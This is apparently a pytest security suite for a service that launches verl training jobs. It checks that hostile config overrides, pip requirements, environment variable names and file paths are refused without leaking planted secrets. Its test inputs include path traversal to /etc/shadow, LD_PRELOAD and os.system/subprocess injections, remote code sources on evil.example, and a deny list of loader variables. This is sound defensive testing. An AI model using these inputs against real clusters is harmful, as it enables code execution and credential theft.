"""What a verl spec may ask of the cluster: each hole an attacker used is shut, through the API
(answers never echo planted file content, never a 500) and at the guard itself."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.recipes.env_names import refusal as env_refusal
from service.recipes.verl import hydra_check
from service.recipes.verl.guard import override_refusal, pip_refusal
from service.recipes.verl.overrides import compose
from service.settings import Settings
from tests.test_verl_recipe import PRESET, SETTINGS, build, refused

PASSWORD = "hunter2-not-a-real-password"


@pytest.fixture
def planted(tmp_path: Path) -> dict[str, str]:
    """An app config with a password and a malformed YAML file on the service host, as paths
    relative to verl's ``data`` config group (where a group override would look them up)."""
    (tmp_path / "app-config.yaml").write_text(f"database:\n  password: {PASSWORD}\n")
    (tmp_path / "broken.yaml").write_text(f"password: {PASSWORD}\n  - [unclosed: {{\n")
    group_dir = hydra_check.verl_root() / hydra_check.TRAINER_CONFIG / "data"
    rel = os.path.relpath(tmp_path, group_dir)
    return {"config": f"{rel}/app-config", "broken": f"{rel}/broken"}


def dry_run(api: TestClient, body: dict[str, Any]) -> Any:
    return api.post("/runs", params={"dry_run": True}, json=body)


def test_hydra_path_traversal_is_refused_and_never_echoes_the_file(
    api: TestClient, planted: dict[str, str]
) -> None:
    attempts = [
        f"+data@ray_kwargs.ray_init.num_cpus={planted['config']}",
        f"+data@trainer.project_name={planted['config']}",
        f"data={planted['config']}",
        f"+data={planted['broken']}",
        f"data={planted['broken']}",
    ]
    for override in attempts:
        for dry in (True, False):
            resp = api.post(
                "/runs", params={"dry_run": dry}, json=PRESET | {"overrides": [override]}
            )
            assert resp.status_code == 422, (override, resp.text)
            assert PASSWORD not in resp.text and "database" not in resp.text
            assert [e["field"] for e in resp.json()["errors"]] == ["overrides[0]"]
    assert api.get("/runs").json()["items"] == []


def test_hydra_composition_errors_are_a_fixed_message_even_past_the_guard(
    planted: dict[str, str],
) -> None:
    """Malformed YAML reached by composition is a refusal naming the override, not a 500."""
    with pytest.raises(hydra_check.OverrideError) as info:
        compose("fully_async_ppo_trainer", [f"data={planted['broken']}"])
    [(index, message)] = info.value.problems
    assert message.startswith(hydra_check.COMPOSE_REFUSED) and index in (0, -1)
    assert PASSWORD not in str(info.value) and PASSWORD not in message


@pytest.mark.parametrize(
    "override",
    [
        "trainer.project_name=${oc.env:HOME}",
        "+data.home='${oc.env:HOME}'",
        "+data.x=[1,'${oc.env:DATABASE_URL}']",
        "ray_kwargs.ray_init.num_cpus=8",
        "+ray_kwargs.ray_init.runtime_env={env_vars: {LD_PRELOAD: /tmp/x.so}}",
        "++ray_kwargs.ray_init.address=ray://evil:10001",
        "~ray_kwargs",
        "+actor_rollout_ref.model._target_=os.system",
        "+data.custom={_target_: subprocess.call, args: [id]}",
        "hydra/launcher=basic",
        "hydra/job_logging=disabled",
        "hydra.run.dir=/tmp",
        "+hydra.job.env_set.LD_PRELOAD=/tmp/x.so",
        "model_engine=../../../../etc/app",
        "model_engine@trainer=megatron",
        "nosuchgroup/x=y",
    ],
)
def test_forbidden_overrides_are_refused_with_their_index(api: TestClient, override: str) -> None:
    resp = dry_run(api, PRESET | {"overrides": ["trainer.total_epochs=2", override]})
    assert resp.status_code == 422, resp.text
    assert [e["field"] for e in resp.json()["errors"]] == ["overrides[1]"]


def test_config_groups_take_verls_own_options_only() -> None:
    assert override_refusal("model_engine=megatron") is None
    assert override_refusal("trainer.total_epochs=3") is None
    assert override_refusal("model_engine=nosuch") is not None
    assert override_refusal("model_engine=megatron/../../x") is not None


def test_an_admin_may_widen_the_override_keys_by_settings_never_a_request() -> None:
    text = "ray_kwargs.ray_init.num_cpus=null"
    assert override_refusal(text) is not None
    assert override_refusal(text, allow=["ray_kwargs.ray_init.num_cpus"]) is None
    # Interpolations and _target_ stay refused whatever is allowed.
    assert override_refusal("ray_kwargs.ray_init.num_cpus=${x}", allow=["ray_kwargs"]) is not None
    widened = SETTINGS.model_copy(update={"override_allow": ["ray_kwargs.ray_init.num_cpus"]})
    assert build(PRESET | {"overrides": [text]}, widened).argv[-1] == text


@pytest.mark.parametrize(
    "requirement",
    [
        "--trusted-host=evil.example",
        "--config-settings=x=y",
        "-e .",
        "-r requirements.txt",
        "requests --index-url http://evil",
        "git+https://evil.example/x.git",
        "pkg @ https://evil.example/pkg.whl",
        "pkg; python_version < '4'",
        "./local/path",
        "requests\n",
        "requests\n--extra-index-url=http://evil",
        "requests==2.0 ",
        "",
    ],
)
def test_pip_accepts_only_plain_requirements(requirement: str) -> None:
    assert pip_refusal(requirement) is not None
    errors = refused(PRESET | {"runtime_env": {"pip": ["wandb", requirement]}})
    assert errors[0]["field"] == "runtime_env.pip"


@pytest.mark.parametrize(
    "requirement", ["requests", "requests[socks,security]>=2.0,<3", "numpy==1.26.*", "a.b-c_d~=1.2"]
)
def test_plain_requirements_pass(requirement: str) -> None:
    assert pip_refusal(requirement) is None
    launch = build(PRESET | {"runtime_env": {"pip": [requirement]}})
    assert launch.runtime_env["pip"] == [requirement]


@pytest.mark.parametrize(
    "name",
    ["PATH\n", "PATH", "LD_PRELOAD", "ld_library_path", "PYTHONPATH", "PYTHONSTARTUP",
     "RAY_ADDRESS", "RAY_JOB_STOP_WAIT_TIME_S", "BASH_ENV", "DYLD_INSERT_LIBRARIES", "A-B", ""],
)  # fmt: skip
def test_env_names_are_matched_whole_and_the_loaders_are_denied(name: str) -> None:
    assert env_refusal(name) is not None
    errors = refused(PRESET | {"runtime_env": {"env_vars": {name: "x"}}})
    assert errors[0]["field"].startswith("runtime_env.env_vars")


def test_env_deny_list_is_widened_by_settings_only() -> None:
    body = PRESET | {"runtime_env": {"env_vars": {"PYTHONHASHSEED": "0", "WANDB_PROJECT": "p"}}}
    assert refused(body)[0]["field"] == "runtime_env.env_vars.PYTHONHASHSEED"
    widened = SETTINGS.model_copy(update={"env_allow": ["PYTHONHASHSEED"]})
    assert build(body, widened).runtime_env["env_vars"]["PYTHONHASHSEED"] == "0"
    assert env_refusal("PYTHONHASHSEED", Settings(env_allow=["PYTHONHASHSEED"]).env_allow) is None


@pytest.mark.parametrize(
    "body",
    [
        {"data": {"train_files": "/mnt/data/../../etc/shadow"}},
        {"data": {"val_files": ["/mnt/data/a.parquet", "../b.parquet"]}},
        {"model": {"path": "/mnt/models/../../root"}},
        {"overrides": ["data.train_files=/mnt/data/x/../../../etc/passwd"]},
        {"overrides": ["+custom_reward_function.path=/mnt/data/../../tmp/evil.py"]},
        {"overrides": ["trainer.rollout_data_dir=/mnt/ckpt/other-run/dump"]},
        {"trainer": {"resume_from_path": "/mnt/ckpt/run-x/../other"}},
    ],
)
def test_data_and_model_paths_may_not_climb(body: dict[str, Any]) -> None:
    assert refused(PRESET | body)


def test_the_checkpoint_dir_cannot_reach_another_run_through_the_api(api: TestClient) -> None:
    for ckpt in ("/checkpoints/other-run", "/checkpoints/../checkpoints/other-run", "ckpt"):
        resp = dry_run(api, PRESET | {"trainer": {"default_local_dir": ckpt}})
        assert resp.status_code == 422
        assert resp.json()["errors"][0]["field"] == "trainer.default_local_dir"


def test_malformed_yaml_anywhere_is_never_a_500(api: TestClient) -> None:
    for override in ["data.max_prompt_length=[1,2", "+x={a: [}", "'unclosed=1", "key==="]:
        resp = dry_run(api, PRESET | {"overrides": [override]})
        assert resp.status_code == 422, (override, resp.text)
